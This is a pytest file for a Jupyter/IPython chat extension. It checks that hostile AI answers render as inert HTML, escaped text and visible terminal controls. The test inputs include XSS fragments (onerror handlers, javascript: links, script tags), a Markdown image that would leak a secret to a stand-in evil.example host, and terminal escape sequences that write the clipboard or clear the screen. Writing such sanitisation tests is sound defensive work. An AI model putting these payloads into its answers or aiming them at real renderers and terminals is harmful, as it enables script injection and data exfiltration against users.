"""A hostile answer renders inert everywhere: core renderer, panel, sessions page, cell output.

Every payload of ``safety_payloads.PAYLOADS`` (and random mixes of Markdown and HTML-ish
fragments from hypothesis) goes through each view, and the HTML that comes out is checked
with the stdlib ``html.parser`` (``safety_payloads.html_problems``): allowlisted tags only,
no ``on*`` attribute, no ``src``/``style``/``<script>``, every ``href`` http(s)/mailto
with ``rel``/``target``, no dangerous TeX inside what MathJax typesets. The cell output is
captured from a real ``InteractiveShell`` running ``%%chat`` with the fake provider; the
terminal paths run a real terminal IPython in a subprocess.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import capture_output

from ipython_run import run_ipython
from safety_payloads import PAYLOADS, assert_safe_html, html_problems

IDS = [name for name, _ in PAYLOADS]
TEXTS = [text for _, text in PAYLOADS]
PANEL = {"extra_tags": frozenset({"button"}), "extra_attrs": frozenset({"type", "data-jc-action"})}


def core(text: str) -> str:
    from jupychat.markdown import render

    return render(text).html


def panel(text: str) -> str:
    from jupychat.notebook.panel_render import render_markdown

    return render_markdown(text, actions=True).html


def server(text: str) -> str:
    from jupychat.server.render import markdown_html, message_view

    view = message_view({"role": "assistant", "content": [{"type": "text", "text": text}]}, 0)
    return str(markdown_html(text)) + "".join(str(p) for p in view["parts"])


# -- the corpus, through every adapter ----------------------------------------------------------


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_core_renderer_keeps_every_payload_inert(text):
    assert_safe_html(core(text))


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_panel_keeps_every_payload_inert(text):
    assert_safe_html(panel(text), **PANEL)
    from jupychat.notebook.panel_render import render_markdown

    assert_safe_html(render_markdown(text).html)  # the live (streaming) rendering


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_sessions_page_keeps_every_payload_inert(text):
    assert_safe_html(server(text))


def test_the_corpus_covers_the_classes_it_claims():
    assert len(PAYLOADS) >= 100 and len(set(IDS)) == len(IDS)
    prefixes = {name.split("-")[0] for name in IDS}
    assert {
        "script",
        "img",
        "svg",
        "iframe",
        "entity",
        "link",
        "ref",
        "autolink",
        "title",
        "image",
        "fence",
        "math",
        "tex",
    } <= prefixes


# -- random mixes -----------------------------------------------------------------------------

# fmt: off
FRAGMENTS = [
    "<", ">", "</", "/>", "<script>", "</script>", "<img", " src=", "x", " onerror=",
    " onload=", "=", '"', "'", "`", "```", "~~~", "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\",
    "[", "]", "(", ")", "![", "](", "javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,",
    "&#106;", "&lt;", "&gt;", "&amp;", "&#x3C;", "&", "#", ";", ":", "\n", "\n\n", "    ",
    "|", "|---|", "---", "*", "**", "_", "~~", "> ", "- ", "1. ", "https://evil.example/",
    "http://ok.example/", "mailto:a@b.c", "//evil.example", "<svg", "<a href=", "<iframe",
    "<style>", "style=", "url(", "\\href{", "\\style{", "{", "}", "alert(1)", "[r]: ", "[r]",
    "<!--", "-->", "<![CDATA[", " ", "\t", "\x00", "\x1b[2J", "title", "<details", "ontoggle",
]
# fmt: on
MIXES = st.lists(
    st.one_of(
        st.sampled_from(FRAGMENTS), st.text(alphabet="<>\"'`$[]()!&#;:/\\ \nab=*_|", max_size=6)
    ),
    max_size=40,
).map("".join)
PROPERTY = settings(
    max_examples=600, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)


@PROPERTY
@given(MIXES)
def test_random_markdown_and_html_mixes_render_inert(text):
    assert_safe_html(core(text), repr(text))


@settings(
    max_examples=200, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(MIXES)
def test_random_mixes_are_inert_in_the_panel_and_the_sessions_page(text):
    assert_safe_html(panel(text), repr(text), **PANEL)
    assert_safe_html(server(text), repr(text))


# -- what must still render ---------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def tags(markup: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Tags()
    parser.feed(markup)
    return parser.tags


def test_code_blocks_tables_lists_and_links_still_render():
    from jupychat.markdown import render

    out = render(
        "# Title\n\nSome **bold**, *em*, ~~gone~~ and `code`.\n\n"
        "```python\ndef f(x):\n    return x < 1\n```\n\n"
        "~~~\nplain <b>\n~~~\n\n"
        "| left | mid | right |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n> quoted\n\n"
        '[docs](https://docs.python.org/3/ "Python docs"), <https://example.org>, '
        "[mail](mailto:someone@example.org) and <someone@example.org>\n\n---\n"
    )
    html = out.html
    assert out.codes == ["def f(x):\n    return x < 1", "plain <b>"]
    assert out.languages == ["python", ""]
    assert '<span class="k">def</span>' in html and "&lt;" in html
    assert '<div class="jc-codeblock" data-index="1">' in html
    names = [t for t, _ in tags(html)]
    for tag in (
        "h1",
        "strong",
        "em",
        "s",
        "code",
        "pre",
        "table",
        "th",
        "td",
        "ul",
        "ol",
        "li",
        "blockquote",
        "hr",
        "a",
    ):
        assert tag in names, tag
    assert ("ol", {"start": "3"}) in tags(html)
    assert ("td", {"style": "text-align:right"}) in tags(html)
    links = [a["href"] for t, a in tags(html) if t == "a"]
    assert links == [
        "https://docs.python.org/3/",
        "https://example.org",
        "mailto:someone@example.org",
        "mailto:someone@example.org",
    ]
    assert 'title="Python docs"' in html
    assert_safe_html(html)


def test_images_become_links_and_are_never_fetched():
    from jupychat.markdown import render

    html = render(
        '![chart](https://evil.example/leak?d=SECRET "a chart") and ![](http://x.example/i.png)'
    ).html
    assert "<img" not in html
    anchors = [a for t, a in tags(html) if t == "a"]
    assert [a["href"] for a in anchors] == [
        "https://evil.example/leak?d=SECRET",
        "http://x.example/i.png",
    ]
    assert "[image: chart]" in html and "[image]" in html
    assert render("![x](javascript:alert(1))").html.count("<a") == 0


def test_refused_links_keep_their_text_and_lose_the_target():
    from jupychat.markdown import render

    html = render("[click me](javascript:alert(1)) [rel](docs/x.md) [r]\n\n[r]: vbscript:x").html
    assert "click me" in html and "rel" in html and "<a" not in html


def math_spans(markup: str) -> list[str]:
    """The text of every element MathJax would typeset (class ``mathjax_process``)."""
    return re.findall(r'class="[^"]*mathjax_process[^"]*">([^<]*)<', markup)


def test_math_is_kept_as_tex_for_mathjax():
    from jupychat.markdown import render

    html = render(
        "Inline $a_1 * b_2 < c_3 * d$ and \\(x_i^2\\), display:\n\n"
        "$$\n\\sum_{i=1}^n x_i\n\n= y_*\n$$\n\n\\[\n\\int_0^1 f\n\\]\n\n"
        "and $$e^{i\\pi}$$ inline."
    ).html
    spans = math_spans(html)
    import html as html_lib

    assert [html_lib.unescape(s) for s in spans] == [
        "$a_1 * b_2 < c_3 * d$",
        "\\(x_i^2\\)",
        "$$\\sum_{i=1}^n x_i\n\n= y_*$$",
        "\\[\\int_0^1 f\\]",
        "$$e^{i\\pi}$$",
    ]
    assert "<em>" not in html and "&lt; c_3" in html
    assert html.startswith('<div class="jc-rendered mathjax_ignore">')
    assert_safe_html(html)


def test_dollars_in_prose_and_code_are_not_math():
    from jupychat.markdown import render

    for text in (
        "It costs $5 and $10 in total.",
        "Price: \\$3 or \\$4.",
        "`$x$` is code",
        "$ 1 + 1 $ has spaces",
        "a $x$5 b",
    ):
        assert math_spans(render(text).html) == [], text


def test_tex_that_could_link_style_or_load_code_is_shown_as_code():
    from jupychat.markdown import render

    for tex in (
        "\\href{https://x.example}{x}",
        "\\style{color:red}{x}",
        "\\require{cancel}",
        "\\class{big}{x}",
        "\\cssId{a}{x}",
        "\\mmlToken{mi}{x}",
        "\\def\\x{1}",
        "\\newcommand{\\x}{1}",
        "\\unicode{x41}",
        "\\bbox[red]{x}",
        "\\url{https://x}",
    ):
        html = render(f"${tex}$").html
        assert math_spans(html) == [] and 'class="jc-math-raw"' in html, tex
    assert math_spans(render("$\\frac{a}{b} \\color{red}{x} \\hrefx$").html)


# -- terminal ---------------------------------------------------------------------------------------

CONTROL = (
    "ok \x1b]52;c;SGVsbG8=\x07 clipboard, \x1b[2J\x1b[H cleared, \x9b31m C1, "
    "safe\rEVIL overwrite, \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\, "
    "\u202eevil\u202c bidi\n\tindented line\n"
)


def test_terminal_text_makes_controls_visible():
    from jupychat.markdown import terminal_text

    out = terminal_text(CONTROL)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out)
    assert "␛]52;c;SGVsbG8=␇" in out and "<U+009B>" in out and "<U+202E>" in out
    assert "\n\tindented line\n" in out and "safeEVIL" in out
    halves = terminal_text(CONTROL[:20]) + terminal_text(CONTROL[20:])
    assert halves == out  # safe chunk by chunk while streaming


def _terminal(tmp_path, answer: str, prelude: str = "") -> str:
    code = (
        prelude + "from jupychat.providers.fake import get_fake; "
        f"get_fake('term').enqueue(json.loads({json.dumps(json.dumps(answer))}), chunk_size=3); "
        "ip = get_ipython(); ip.run_line_magic('load_ext', 'jupychat'); "
        "ip.run_cell_magic('chat', '', 'hello'); ip.run_line_magic('chat', 'history')"
    )
    out = run_ipython(
        tmp_path, "import json; " + code, "fake:term", text=False, TERM="xterm-256color"
    )
    assert out.returncode == 0, out.stderr.decode(errors="replace")
    return out.stdout.decode("utf-8")


@pytest.mark.parametrize("rich", [False, True], ids=["plain", "rich"])
def test_terminal_ipython_cannot_be_driven_by_an_answer(tmp_path, rich):
    if rich:
        pytest.importorskip("rich")
    text = _terminal(tmp_path, CONTROL, "" if rich else "import sys; sys.modules['rich'] = None; ")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u202a-\u202e]", text), repr(text)
    assert "clipboard" in text and "indented line" in text and "␛]52" in text
    assert text.count("hello") >= 1  # %chat history printed the question too


# -- the cell output in a real IPython shell --------------------------------------------------------


@pytest.fixture
def shell(monkeypatch):
    monkeypatch.setenv("JUPYCHAT_MODEL", "fake:safety")
    InteractiveShell.clear_instance()
    sh = InteractiveShell.instance()
    sh.run_line_magic("load_ext", "jupychat")
    sh.run_line_magic("config", "ChatMagics.stream_interval = 0")  # publish every chunk
    yield sh
    from jupychat.notebook import unload_ipython_extension

    unload_ipython_extension(sh)
    InteractiveShell.clear_instance()


def _outputs(shell, cell: str) -> list[dict]:
    with capture_output() as captured:
        result = shell.run_cell(cell)
    assert result.success, result.error_in_exec
    return [dict(o.data) for o in captured.outputs]


def test_every_payload_in_a_chat_cell_is_published_as_safe_html_and_exact_text(shell):
    from jupychat.providers.fake import get_fake

    fake = get_fake("safety")
    failures = []
    for name, text in PAYLOADS:
        fake.enqueue(text, usage=(3, 4), chunk_size=7)
        outputs = _outputs(shell, "%%chat\nanswer")
        answers = [o for o in outputs if "text/html" in o and "jc-answer" in o["text/html"]]
        if not answers or any("text/markdown" in o for o in outputs):
            failures.append(f"{name}: no HTML answer, or a text/markdown output")
            continue
        for out in outputs:
            problems = html_problems(out.get("text/html", ""))
            if problems:
                failures.append(f"{name}: {problems}")
        final = answers[-1]
        if final["text/plain"] != text:
            failures.append(f"{name}: text/plain {final['text/plain']!r} != answer")
        if "3 in / 4 out" not in final["text/html"] or "3 in / 4 out" in final["text/plain"]:
            failures.append(f"{name}: footer missing from the HTML or present in the text")
    assert not failures, "\n".join(failures)


def test_streaming_updates_and_the_footer_are_escaped(shell):
    from jupychat.providers.fake import get_fake

    get_fake("safety").enqueue("$x<y$ and <b>bold?</b> ```py\nx\n", chunk_size=2, delay=0.02)
    outputs = _outputs(shell, "%%chat -m fake:safety\nq")
    htmls = [o["text/html"] for o in outputs if "text/html" in o]
    assert len(htmls) > 10  # every chunk was published (interval 0), all safe
    for html in htmls:
        assert_safe_html(html)
        assert html.startswith('<div class="jc-answer mathjax_ignore">')
    assert "fake:safety" in htmls[-1]
    assert [o["text/plain"] for o in outputs][-1] == "$x<y$ and <b>bold?</b> ```py\nx\n"


def test_streaming_is_throttled(shell):
    from jupychat.providers.fake import get_fake

    shell.run_line_magic("config", "ChatMagics.stream_interval = 60")
    get_fake("safety").enqueue("word " * 50, chunk_size=2)
    outputs = _outputs(shell, "%%chat\nq")
    assert 1 <= len(outputs) <= 4  # the empty start, at most one live update, the final answer


def test_the_status_line_is_html_and_text(shell):
    from jupychat.notebook.render import StreamRenderer

    renderer = StreamRenderer(shell)
    with capture_output() as captured:
        renderer.status("loading <the> local model…")
        renderer.add("done")
        renderer.finish("done", "<img src=x onerror=alert(1)> · 1 in / 1 out")
    first = captured.outputs[0].data
    assert first["text/plain"] == "loading <the> local model…"
    assert "loading &lt;the&gt; local model…" in first["text/html"]
    assert all("text/markdown" not in o.data for o in captured.outputs)
    for o in captured.outputs:
        assert_safe_html(o.data.get("text/html", ""))
    assert (
        "&lt;img src=x onerror=alert(1)&gt; · 1 in / 1 out"
        in captured.outputs[-1].data["text/html"]
    )


def test_chat_history_renders_through_the_safe_renderer(shell):
    from jupychat.providers.fake import get_fake

    fake = get_fake("safety")
    sample = [text for name, text in PAYLOADS if name.startswith(("img", "link", "image", "tex"))]
    for text in sample:
        fake.enqueue(text)
        _outputs(shell, "%%chat\nq <b>me</b>")
    outputs = _outputs(shell, "%chat history")
    assert len(outputs) == 1 and "text/markdown" not in outputs[0]
    html, plain = outputs[0]["text/html"], outputs[0]["text/plain"]
    assert_safe_html(html)
    assert "q &lt;b&gt;me&lt;/b&gt;" in html and "fake:safety" in html
    for text in sample:
        assert text in plain
